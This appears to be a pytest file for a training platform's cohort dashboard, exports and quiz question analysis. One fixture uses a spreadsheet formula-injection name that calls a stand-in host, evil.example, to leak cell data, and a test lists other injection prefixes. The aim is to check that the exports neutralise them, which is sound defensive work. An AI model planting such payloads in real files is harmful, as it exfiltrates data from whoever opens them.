"""The report model behind the trainer's pages: the dashboard says what the learners really did, the exports say
exactly what the page says (safely), the question analysis computes facility and discrimination right, and the
number of SQL queries does not grow with the cohort."""
import re
import zipfile
from datetime import datetime, timedelta, timezone
from io import BytesIO

import pytest
from babel.dates import format_date
from sqlalchemy import select

from trainer.certificates.models import Certificate
from trainer.cohorts import reports
from trainer.spreadsheets import inert
from trainer.extensions import db
from trainer.learning.services import module_statuses
from trainer.quiz.models import Attempt, Response, ResponseChoice
from trainer.timeutil import utcnow

from .cohort_helpers import (QueryCounter, csv_rows, hours_ago, make_cohort, module, page_table, read_lessons,
                             take_quiz, xlsx_rows)
from .conftest import Browser, html_text

FIRST, SECOND = "child-sensitive-borders", "rights-at-borders"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.fixture
def trainer(make_user):
    return make_user("karim", role="trainer", full_name="Karim Mansour", country="JO")


@pytest.fixture
def trainer_browser(trainer, app):
    browser = Browser(app.test_client())
    browser.login("karim")
    return browser


@pytest.fixture
def cohort_with_progress(app, trainer, make_user):
    """Four learners of two real modules: not started, reading, completed the first module, failed its quiz."""
    content = app.extensions["trainer.content"]
    first, second = content.module(FIRST), content.module(SECOND)
    today = utcnow().date()
    learners = {
        "ahmad": make_user("ahmad", full_name="Ahmad Khatib", country="JO"),
        "rana": make_user("rana", full_name="Rana Haddad", full_name_ar="رنا حداد", country="JO"),
        "hala": make_user("hala", full_name=EVIL, country="JO", agency="@Airport Police"),
        "tareq": make_user("tareq", full_name="Tareq Nsour", full_name_ar="طارق النسور", country="JO"),
    }
    read_lessons(learners["rana"], first, 2)
    read_lessons(learners["hala"], first)
    take_quiz(learners["hala"], first, right=10)
    read_lessons(learners["tareq"], first)
    take_quiz(learners["tareq"], first, right=2, when=hours_ago(30))
    take_quiz(learners["tareq"], first, right=6, when=hours_ago(20))
    read_lessons(learners["tareq"], second, 1)
    cohort = make_cohort("Amman June", trainers=[trainer], modules=(FIRST, SECOND),
                         due={FIRST: today - timedelta(days=2), SECOND: today + timedelta(days=20)},
                         learners=list(learners.values()))
    return cohort, learners, (first, second)


def test_dashboard_figures_are_the_learners_real_progress(app, trainer_browser, cohort_with_progress):
    cohort, learners, modules = cohort_with_progress
    report = reports.cohort_dashboard(cohort, app.extensions["trainer.content"], utcnow().date())
    for view in report.rows:
        user = learners[view.username]
        truth = module_statuses(user, modules)  # what the learner's own pages show
        for cell in view.row.cells:
            real = truth[cell.module.id]
            assert cell.lessons_done == real.lessons_done and cell.lessons_total == real.lessons_total
            assert cell.complete == real.complete
            assert cell.attempts_used == real.quiz.attempts_used
            assert cell.best_score == (round(real.quiz.best_score, 1) if real.quiz.best_score is not None else None)
            assert cell.status.percent == real.percent
    states = {v.username: v.state for v in report.rows}
    assert states == {"ahmad": "not_started", "rana": "in_progress", "hala": "in_progress", "tareq": "failed"}
    s = report.summary
    assert (s.enrolled, s.started, s.completed, s.overdue) == (4, 3, 0, 3)  # hala finished the first module
    assert (s.attempted, s.passed, s.pass_rate, s.mean_best_score) == (2, 1, 50.0, 80.0)  # 100 and 60

    page = trainer_browser.get(f"/trainer/cohorts/{cohort.id}")
    text = html_text(page)
    assert "Enrolled 4 Started 3 Completed every module 0 Pass rate 50 % Mean best score 80 % Overdue 3" in text
    rows = {row[0].split()[0]: row for row in page_table(page)[1:]}
    assert set(rows) == {"Ahmad", "Rana", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click", "Tareq"}
    assert rows["Ahmad"][2] == "Not started Lessons done: 0/6 Overdue"
    assert rows["Rana"][2] == "In progress Lessons done: 2/6 Overdue"
    assert rows[EVIL.split()[0]][2].startswith("Completed Lessons done: 6/6 · Best score: 100 % · Attempts: 1×")
    assert rows["Tareq"][2] == "Quiz not passed Lessons done: 6/6 · Best score: 60 % · Attempts: 2× Overdue"
    assert rows["Tareq"][3] == "In progress Lessons done: 1/6"
    serial = db.session.scalar(select(Certificate.serial).where(Certificate.user_id == learners["hala"].id,
                                                               Certificate.module_id == FIRST))
    if serial:  # issued by the certificate feature on completion
        assert serial in rows[EVIL.split()[0]][2]


def test_module_view_filters_and_sort(app, trainer_browser, cohort_with_progress):
    cohort, learners, _ = cohort_with_progress
    base = f"/trainer/cohorts/{cohort.id}"
    page = trainer_browser.get(f"{base}?module={FIRST}&sort=score&dir=desc")
    table = page_table(page)
    assert table[0] == ["Learner", "Status", "Lessons done", "Best score ▼", "Attempts", "Quiz", "Certificate",
                        "Last activity"]
    names = [row[0].split()[0] for row in table[1:]]
    assert names[:2] == [EVIL.split()[0], "Tareq"]  # 100 %, then 60 %; no score last
    tareq = next(row for row in table[1:] if row[0].startswith("Tareq"))
    assert tareq[1:7] == ["Quiz not passed Overdue", "6/6", "60 %", "2", "Not passed", "—"]
    failed = page_table(trainer_browser.get(f"{base}?module={FIRST}&status=failed"))
    assert [row[0].split()[0] for row in failed[1:]] == ["Tareq"]
    overdue = page_table(trainer_browser.get(f"{base}?status=overdue"))
    assert sorted(row[0].split()[0] for row in overdue[1:]) == ["Ahmad", "Rana", "Tareq"]
    search = page_table(trainer_browser.get(f"{base}?q=طارق"))
    assert [row[0].split()[0] for row in search[1:]] == ["Tareq"]


def test_csv_and_xlsx_exports_say_what_the_page_says(app, trainer_browser, cohort_with_progress):
    cohort, learners, modules = cohort_with_progress
    base = f"/trainer/cohorts/{cohort.id}"
    for query in ("", "?status=overdue&sort=activity&dir=desc", f"?module={FIRST}"):
        page = page_table(trainer_browser.get(base + query))[1:]
        csv_data = csv_rows(trainer_browser.get(f"{base}/export.csv{query}"))
        workbook = xlsx_rows(trainer_browser.get(f"{base}/export.xlsx{query}"))
        header, body = csv_data[0], csv_data[1:]
        assert [c.value for c in workbook[0]] == header
        assert len(body) == len(workbook) - 1 == len(page) > 0  # the same learners: every one, none extra
        col = {name: header.index(name) for name in header}
        shown_modules = [m for m in modules if query != f"?module={FIRST}" or m.id == FIRST]
        for page_row, csv_row, xlsx_row in zip(page, body, workbook[1:]):
            xlsx = [c.value for c in xlsx_row]
            username = csv_row[col["Username"]]
            assert username in page_row[0] and xlsx[col["Username"]] == username
            assert xlsx[col["Status"]] == csv_row[col["Status"]]
            assert csv_row[col["Status"]] in page_row[1]
            last = xlsx[col[next(h for h in header if h.startswith("Last activity"))]]
            assert (format_date(last, "medium", locale="en") if last else "—") == page_row[-1]
            for m in shown_modules:
                title = m.title.get("en")
                done, total = xlsx[col[f"{title}: lessons done"]], xlsx[col[f"{title}: lessons in module"]]
                best = xlsx[col[f"{title}: best score (%)"]]
                attempts = xlsx[col[f"{title}: attempts"]]
                assert isinstance(done, int) and isinstance(total, int)
                assert best is None or isinstance(best, (int, float))  # a number, never "85 %" text
                assert csv_row[col[f"{title}: lessons done"]] == str(done)
                csv_best = csv_row[col[f"{title}: best score (%)"]]
                assert (csv_best == "") if best is None else (float(csv_best) == best)
                cell = page_row[1 + (1 + shown_modules.index(m) if len(shown_modules) > 1 else 1)]
                if len(shown_modules) > 1:
                    assert f"{done}/{total}" in cell
                    if attempts:
                        assert f"Best score: {best:g} %" in cell and f"Attempts: {attempts}×" in cell
                    assert xlsx[col[f"{title}: status"]] in cell
                    serial = xlsx[col[f"{title}: certificate"]]
                    assert (serial in cell) if serial else True
                else:
                    assert page_row[2] == f"{done}/{total}"
                    assert page_row[3] == ("—" if best is None else f"{best:g} %")
                    assert page_row[4].split()[0] == (str(attempts) if attempts is not None else "—")
    # Arabic names intact in both files.
    csv_text = trainer_browser.get(f"{base}/export.csv").data.decode("utf-8-sig")
    assert "رنا حداد" in csv_text and "طارق النسور" in csv_text
    cells = [c.value for row in xlsx_rows(trainer_browser.get(f"{base}/export.xlsx")) for c in row]
    assert "رنا حداد" in cells and "طارق النسور" in cells


def test_exports_neutralise_formulas(app, trainer_browser, cohort_with_progress):
    cohort, *_ = cohort_with_progress
    base = f"/trainer/cohorts/{cohort.id}"
    csv_data = csv_rows(trainer_browser.get(f"{base}/export.csv"))
    header = csv_data[0]
    hala = next(row for row in csv_data if row[0] == "hala")
    assert hala[header.index("Full name")] == "'" + EVIL
    assert hala[header.index("Agency")] == "'@Airport Police"
    response = trainer_browser.get(f"{base}/export.xlsx")
    rows = xlsx_rows(response)
    cell = next(row for row in rows if row[0].value == "hala")[header.index("Full name")]
    assert cell.value == EVIL and cell.data_type == "s" and cell.quotePrefix  # the exact text, as inert text
    sheet = zipfile.ZipFile(BytesIO(response.data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    for dangerous in ("=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"):
        assert inert(dangerous) == "'" + dangerous
    assert inert("Salma") == "Salma" and inert(-31.6) == -31.6  # a negative number stays a number


def test_export_responses_are_private_downloads(app, trainer_browser, cohort_with_progress):
    cohort, *_ = cohort_with_progress
    for suffix, kind in (("csv", "text/csv; charset=utf-8"),
                         ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")):
        response = trainer_browser.get(f"/trainer/cohorts/{cohort.id}/export.{suffix}")
        assert response.status_code == 200 and response.headers["Content-Type"] == kind
        assert response.headers["Cache-Control"] == "private, no-store"
        assert re.match(rf'attachment; filename="cohort-{cohort.id}-amman-june-dashboard-[0-9-]+\.{suffix}"',
                        response.headers["Content-Disposition"])


# --- Question analysis ---------------------------------------------------------------------------------------------

OPTIONS = {"s1": ["a", "b", "c"], "s2": ["a", "b", "c"], "s3": ["a", "b", "c"], "tf1": ["t", "f"]}
RIGHT = {"s1": "a", "s2": "a", "s3": "a", "tf1": "t"}
TYPES = {"s1": "single", "s2": "single", "s3": "single", "tf1": "true_false"}
# Six attempts by five learners (the fourth tried twice); a 1 is a right answer, otherwise the option chosen.
ATTEMPTS = [
    ("l1", 1, {"s1": "b", "s2": 1, "s3": "b", "tf1": 1}),
    ("l2", 1, {"s1": "b", "s2": "b", "s3": "b", "tf1": 1}),
    ("l3", 1, {"s1": "c", "s2": 1, "s3": "b", "tf1": 1}),
    ("l4", 1, {"s1": 1, "s2": "b", "s3": 1, "tf1": 1}),
    ("l4", 2, {"s1": 1, "s2": 1, "s3": "b", "tf1": 1}),
    ("l5", 1, {"s1": 1, "s2": 1, "s3": "c", "tf1": 1}),
]


def _graded_attempt(user, number, answers, when):
    """A graded attempt at the sample quiz, written as the quiz engine writes it (attempt, responses, choices)."""
    marks = {q: 1.0 if a == 1 else 0.0 for q, a in answers.items()}
    points = sum(marks.values())
    attempt = Attempt(user_id=user.id, module_id="sample", quiz_id="sample", number=number, module_version=3,
                      content_hash="0" * 64, status="graded", started_at=when, submitted_at=when, points=points,
                      score=round(100 * points / len(marks), 2), passed=points / len(marks) >= 0.6, pass_mark=60,
                      questions=[{"q": q, "h": "0" * 64, "t": TYPES[q], "o": OPTIONS[q], "c": [RIGHT[q]]}
                                 for q in answers])
    db.session.add(attempt)
    db.session.flush()
    for position, (q, answer) in enumerate(answers.items()):
        db.session.add(Response(attempt_id=attempt.id, question_id=q, quiz_id="sample", position=position,
                                score=marks[q]))
        db.session.add(ResponseChoice(attempt_id=attempt.id, question_id=q,
                                      option_id=RIGHT[q] if answer == 1 else answer))
    return attempt


@pytest.fixture
def analysed(sample_app, trainer, make_user):
    users = {name: make_user(name, full_name=f"Learner {name}") for name in ("l1", "l2", "l3", "l4", "l5", "out")}
    for i, (name, number, answers) in enumerate(ATTEMPTS):
        _graded_attempt(users[name], number, answers, utcnow() - timedelta(hours=10 - i))
    _graded_attempt(users["out"], 1, {"s1": 1, "s2": 1, "s3": 1, "tf1": 1}, utcnow())  # not in the cohort
    db.session.commit()
    cohort = make_cohort(trainers=[trainer], learners=[users[n] for n in ("l1", "l2", "l3", "l4", "l5")],
                         app=sample_app)
    return cohort, users


def test_question_analysis_matches_facility_and_discrimination_computed_by_hand(sample_app, analysed):
    cohort, _ = analysed
    analysis = reports.question_analysis(module(sample_app), cohort=cohort)
    stats = {q.id: q for q in analysis.questions}
    assert (analysis.attempts, analysis.learners) == (6, 5)
    # s1: x = 0 0 0 1 1 1, y = rest of the attempt = 2 1 2 2 2 2; n=6, Σx=3, Σy=11, Σx²=3, Σy²=21, Σxy=6.
    # r = (6·6 − 3·11) / √((6·3 − 3²)(6·21 − 11²)) = 3 / √(9·5) = 0.4472 → 44.7; facility 3/6 = 50 %.
    assert (stats["s1"].responses, stats["s1"].facility, stats["s1"].discrimination) == (6, 50.0, 44.7)
    # s2: x = 1 0 1 0 1 1, y = 1 1 1 3 2 2; Σx=4, Σy=10, Σx²=4, Σy²=20, Σxy=6.
    # r = (36 − 40) / √((24 − 16)(120 − 100)) = −4 / √160 = −0.3162 → −31.6; facility 4/6 = 66.7 %.
    assert (stats["s2"].facility, stats["s2"].discrimination) == (66.7, -31.6)
    # s3: x = 0 0 0 1 0 0, y = 2 1 2 2 3 3; Σx=1, Σy=13, Σx²=1, Σy²=31, Σxy=2.
    # r = (12 − 13) / √((6 − 1)(186 − 169)) = −1 / √85 = −0.1085 → −10.8; facility 1/6 = 16.7 %.
    assert (stats["s3"].facility, stats["s3"].discrimination) == (16.7, -10.8)
    # tf1: always right: facility 100 %, no spread, so no correlation.
    assert (stats["tf1"].facility, stats["tf1"].discrimination) == (100.0, None)
    assert (stats["m1"].responses, stats["m1"].facility) == (0, None)  # never drawn
    assert stats["s1"].flags == []
    assert stats["s2"].flags == ["negative_discrimination"]
    assert stats["s3"].flags == ["too_hard", "negative_discrimination"]
    assert stats["tf1"].flags == ["too_easy"]
    chosen = {q: [(o.label, o.chosen, o.percent, o.correct) for o in stats[q].options] for q in ("s1", "s3")}
    assert chosen["s1"] == [("A", 3, 50.0, True), ("B", 2, 33.3, False), ("C", 1, 16.7, False)]
    assert chosen["s3"] == [("A", 1, 16.7, True), ("B", 4, 66.7, False), ("C", 1, 16.7, False)]

    first_only = {q.id: q for q in reports.question_analysis(module(sample_app), cohort=cohort,
                                                             scope="first").questions}
    assert (first_only["s1"].responses, first_only["s1"].facility) == (5, 40.0)  # l4's second try left out
    everyone = {q.id: q for q in reports.question_analysis(module(sample_app)).questions}
    assert (everyone["s1"].responses, everyone["s1"].facility) == (7, 57.1)  # the learner outside the cohort


def test_question_analysis_page_and_exports_agree(sample_app, analysed, trainer, make_user):
    cohort, _ = analysed
    browser = Browser(sample_app.test_client())
    browser.login("karim")
    base = f"/trainer/cohorts/{cohort.id}/analysis/sample"
    text = html_text(browser.get(base))
    assert "6 attempts · 5 learners" in text
    assert re.search(r"Single question 2\? .*? 6 66.7 % -31.6 Negative discrimination", text)
    assert re.search(r"Single question 3\? .*? 6 16.7 % -10.8 Too hard Negative discrimination", text)
    assert re.search(r"This statement is true\. .*? 6 100 % — Too easy", text)
    assert "A. Right answer correct 3 (50 %)" in text and "B. Wrong answer 2 (33.3 %)" in text
    assert "سؤال فردي 1؟" in html_text(browser.get(base + "?lang=ar"))  # the question in the trainer's language
    browser.get(base + "?lang=en")
    questions = csv_rows(browser.get(f"{base}/export.csv"))
    header = questions[0]
    s2 = next(row for row in questions if row[1] == "s2")
    assert (s2[header.index("Facility (%)")], s2[header.index("Discrimination")],
            s2[header.index("Flags")]) == ("66.7", "-31.6", "Negative discrimination")
    assert s2[header.index("Question")] == "Single question 2?"
    options = csv_rows(browser.get(f"{base}/options.csv"))
    assert ["1", "s1", "A", "Right answer", "yes", "3", "50.0"] in options
    book = xlsx_rows(browser.get(f"{base}/export.xlsx"))
    s3 = next(row for row in book if row[1].value == "s3")
    assert [c.value for c in s3][6:9] == [6, 16.7, -10.8]  # numbers, not text
    options_sheet = xlsx_rows(browser.get(f"{base}/export.xlsx"), sheet=1)
    assert [c.value for c in options_sheet[1]] == [1, "s1", "A", "Right answer", True, 3, 50.0]
    first = html_text(browser.get(base + "?attempts=first"))
    assert "5 attempts · 5 learners" in first
    make_user("amal", role="admin")
    admin = Browser(sample_app.test_client())
    admin.login("amal")
    assert "7 attempts · 6 learners" in html_text(admin.get("/trainer/analysis/sample"))
    assert admin.get("/trainer/analysis/sample/export.xlsx").status_code == 200


def test_analysis_of_a_module_not_assigned_to_the_cohort_is_404(app, trainer, trainer_browser):
    cohort = make_cohort(trainers=[trainer], modules=(FIRST,))
    assert trainer_browser.get(f"/trainer/cohorts/{cohort.id}/analysis/{FIRST}").status_code == 200
    assert trainer_browser.get(f"/trainer/cohorts/{cohort.id}/analysis/{SECOND}").status_code == 404
    assert trainer_browser.get(f"/trainer/cohorts/{cohort.id}/analysis/no-such").status_code == 404


# --- Queries, time zones, charts ---------------------------------------------------------------------------------

def _learners_with_progress(sample_app, make_user, names):
    sample = module(sample_app)
    users = []
    for i, name in enumerate(names):
        user = make_user(name, full_name=f"Learner {name}")
        if i % 3:
            read_lessons(user, sample, 1 + i % 2)
        if i % 2:
            take_quiz(user, sample, right=i % 4, when=hours_ago(2))
        users.append(user)
    return users


def test_the_number_of_queries_does_not_grow_with_the_cohort(sample_app, trainer, make_user):
    learners = _learners_with_progress(sample_app, make_user, ["la", "lb", "lc"])
    cohort = make_cohort(trainers=[trainer], learners=learners, app=sample_app)
    browser = Browser(sample_app.test_client())
    browser.login("karim")
    base = f"/trainer/cohorts/{cohort.id}"
    urls = (base, f"{base}?module=sample", f"{base}/export.csv", f"{base}/analysis/sample",
            f"{base}/analysis/sample/export.xlsx")

    def counts():
        found = {}
        for url in urls:
            with QueryCounter() as counter:
                assert browser.get(url).status_code == 200
            found[url] = counter.count
        return found

    small = counts()
    from trainer.cohorts import services

    for user in _learners_with_progress(sample_app, make_user, [f"n{i}" for i in range(15)]):
        services.enrol(cohort, user)
    db.session.commit()
    assert counts() == small, small
    assert small[base] <= 12, small


def test_overdue_is_judged_on_the_viewers_own_date(sample_app, trainer, make_user, monkeypatch):
    # 23:30 UTC on 1 June is already 2 June in Amman (UTC+3): a module due on 1 June is overdue there only.
    moment = datetime(2026, 6, 1, 23, 30, tzinfo=timezone.utc)
    monkeypatch.setattr("trainer.cohorts.views.utcnow", lambda: moment)
    sophie = make_user("sophie", role="trainer", country=None)  # no country: she reads times in UTC
    omar = make_user("omar", full_name="Omar Haddad")
    done = make_user("nour", full_name="Nour Tamimi")
    read_lessons(done, module(sample_app))
    take_quiz(done, module(sample_app), right=3)
    cohort = make_cohort(trainers=[trainer, sophie], learners=[omar, done], due={"sample": moment.date()},
                         app=sample_app)
    amman, utc = Browser(sample_app.test_client()), Browser(sample_app.test_client())
    amman.login("karim")
    utc.login("sophie")
    rows = {r[0].split()[0]: r for r in page_table(amman.get(f"/trainer/cohorts/{cohort.id}"))[1:]}
    assert "Overdue" in rows["Omar"][1] and "Overdue" not in rows["Nour"][1]  # completed learners never are
    in_utc = {r[0].split()[0]: r for r in page_table(utc.get(f"/trainer/cohorts/{cohort.id}"))[1:]}
    assert "Overdue" not in in_utc["Omar"][1] and "Overdue" not in in_utc["Omar"][2]
    assert "Jun 1, 2026" in html_text(amman.get(f"/trainer/cohorts/{cohort.id}"))


def test_charts_are_inline_svg_labelled_for_screen_readers_and_mirrored_in_arabic(sample_app, trainer, make_user):
    cohort = make_cohort(trainers=[trainer], learners=_learners_with_progress(sample_app, make_user,
                                                                              ["la", "lb", "lc", "ld"]), app=sample_app)
    browser = Browser(sample_app.test_client())
    browser.login("karim")
    html = browser.get(f"/trainer/cohorts/{cohort.id}").get_data(as_text=True)
    svgs = re.findall(r"<svg .*?</svg>", html, flags=re.S)
    assert len(svgs) == 2 and all('role="img"' in s and "<title " in s and "<desc " in s for s in svgs)
    assert all(len(s) < 6000 for s in svgs)  # small enough for a poor connection
    funnel = next(s for s in svgs if "chart-funnel" in s)
    assert "Enrolled: 4; Started: 3" in funnel
    arabic = browser.get(f"/trainer/cohorts/{cohort.id}?lang=ar").get_data(as_text=True)
    bar = re.compile(r'<rect x="([0-9.]+)" y="[0-9.]+" width="([0-9.]+)" height="[0-9.]+" fill="#0b5c7a"/>')
    first_ltr = bar.search(next(s for s in svgs if "chart-funnel" in s))
    first_rtl = bar.search(next(s for s in re.findall(r"<svg .*?</svg>", arabic, flags=re.S) if "chart-funnel" in s))
    assert float(first_ltr.group(1)) + float(first_rtl.group(1)) + float(first_ltr.group(2)) == pytest.approx(560)


def test_cohort_list_counts_learners(app, trainer, trainer_browser, make_user):
    make_cohort("Amman June", trainers=[trainer], modules=(FIRST,),
                learners=[make_user("a1"), make_user("a2"), make_user("a3")])
    text = html_text(trainer_browser.get("/trainer/cohorts"))
    assert re.search(r"Amman June .*? 3 1 Karim Mansour", text)
